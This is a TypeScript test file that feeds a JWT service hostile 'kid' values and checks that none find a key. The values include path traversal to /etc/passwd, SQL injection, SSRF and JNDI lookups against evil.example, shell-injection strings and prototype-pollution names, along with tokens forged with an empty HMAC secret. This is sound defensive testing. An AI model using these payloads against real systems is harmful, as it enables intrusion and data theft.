import { createHmac } from 'node:crypto'
import { readdirSync } from 'node:fs'
import { expect, onTestFinished, test } from 'vitest'
import { temporaryStore } from '../../store/testStore.ts'
import { encodePart } from '../compactJws.ts'
import { createTestBrowser, signCompact } from '../testBrowser.ts'
import { type Attack, named, nothingGotIn, startTarget } from './testTarget.ts'

/** Names that mean something to a file system, a database, a browser, a shell or an object. */
const names = (good: string): unknown[] => [
  ...[
    '../../../../etc/passwd',
    '/dev/null',
    '/proc/self/environ',
    `./${good}`,
    `${good}.json`,
    `keys/${good}`,
  ],
  ...[
    `../keys/${good}`,
    `${good}/../${good}`,
    '..\\..\\windows\\win.ini',
    'C:\\key',
    '%2e%2e%2f%2e%2e%2fkey',
  ],
  ...[
    `../${'A'.repeat(40)}`,
    `${'../'.repeat(14)}a`,
    '.',
    '..',
    '',
    ' ',
    '*',
    '~',
    `${good}\0`,
    `${good}\0.json`,
  ],
  ...[
    "' OR '1'='1",
    `${good}' --`,
    '"; DROP TABLE token_uses; --',
    "x' UNION SELECT 'AA",
    '1; ATTACH DATABASE',
  ],
  ...[
    'http://127.0.0.1/key',
    'https://evil.example/jwks.json',
    'file:///etc/passwd',
    'data:,AA',
    'gopher://x',
  ],
  ...[
    '$(id)',
    '`id`',
    '| id',
    '; id',
    `$${'{jndi:ldap://evil.example/a}'}`,
    '{{7*7}}',
    '<script>',
    'a\r\nSet-Cookie: a',
  ],
  ...['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'length', 'undefined', 'null'],
  ...['A'.repeat(42), 'A'.repeat(43), 'A'.repeat(44), '-'.repeat(43), good.toLowerCase(), good.toUpperCase()],
  ...[
    ` ${good}`,
    `${good} `,
    `${good}=`,
    good.slice(1),
    `${good}${good}`,
    `${good},${good}`,
    `\uFEFF${good}`,
  ],
  ...[
    '\u202e',
    '💣',
    '\ud800',
    'k'.repeat(1000),
    'k'.repeat(5000),
    'k'.repeat(10 * 1024),
    '../'.repeat(3400),
  ],
  ...[null, true, 0, -1, 1.5, [], [good], {}, { kid: good }, { length: 43 }, undefined],
]

test('the name of a key is a name only: paths, SQL, URLs, objects and 10 KB find no key', async () => {
  const target = await startTarget(await temporaryStore(onTestFinished), onTestFinished)
  const thief = await createTestBrowser()
  const filesBefore = readdirSync(target.service.keysFolder)
  const attacks = names(target.ownKey.kid).flatMap((kid): Attack[] => {
    const header = encodePart({ ...target.headerOf(), kid })
    const short = named(kid).slice(0, 60) + named(kid).length
    const hmacHeader = encodePart({ ...target.headerOf(), alg: 'HS256', kid })
    const hmac = createHmac('sha256', '').update(`${hmacHeader}.${target.payload}`).digest('base64url')
    return [
      { name: `${short}, signed by the service`, token: target.forgeParts(header, target.payload) },
      { name: `${short}, signed by a thief`, token: signCompact(header, target.payload, thief.privateJwk) },
      { name: `${short}, an empty secret`, token: `${hmacHeader}.${target.payload}.${hmac}` },
    ]
  })
  expect(await target.bringAll('key names', attacks)).toEqual(nothingGotIn)
  expect(readdirSync(target.service.keysFolder)).toEqual(filesBefore)
})
